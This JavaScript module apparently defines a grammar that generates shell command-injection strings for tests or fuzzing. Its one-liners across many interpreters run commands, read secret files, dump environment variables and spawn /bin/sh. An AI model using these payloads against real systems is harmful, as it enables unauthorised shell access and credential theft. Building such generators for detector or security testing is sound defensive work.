import { commandGenerator } from '../command-generator.js';
import { ARGUMENT, DOUBLE, MIDDLE } from '../place.js';

/** One-liners of languages that most hosts have. */
export const interpreter = commandGenerator({
  name: 'interpreter',
  places: [ARGUMENT, MIDDLE, DOUBLE],
  rules: {
    start: ['{leave}{sep}{one-liner}{end}'],
    python: ['python', 'python3', 'python2.7', '/usr/bin/python3'],
    'one-liner': [
      '{python} -c \'import os;os.system("{recon}")\'',
      '{python} -c \'print(open("{secret}").read())\'',
      '{python} -c \'__import__("os").popen("{read}")\'',
      '{python} -m http.server {port}',
      'perl -e \'system("{recon}")\'',
      "perl -e 'print `{read}`'",
      'perl -MIO -e \'exec "/bin/sh"\'',
      'php -r \'system("{recon}");\'',
      'php -r \'echo file_get_contents("{secret}");\'',
      "ruby -e 'puts `{recon}`'",
      'ruby -e \'exec "{read}"\'',
      'node -e \'require("child_process").execSync("{recon}")\'',
      "node -p 'process.env'",
      'awk \'BEGIN{system("{recon}")}\'',
      'gawk \'BEGIN {print ENVIRON["HOME"]}\'',
      'lua -e \'os.execute("{recon}")\'',
      "find . -name x -exec {recon} ';'",
      'find / -maxdepth 1 -exec sh -c "{recon}" \\;',
      "tclsh -c 'exec {recon}'",
      "vim -c ':!{recon}' -c ':q'",
      "env -i sh -c '{recon}'",
      'xargs -n1 {recon}',
      "ssh -o ProxyCommand='{recon}' x",
      "make --eval='x:;{recon}'",
    ],
  },
});
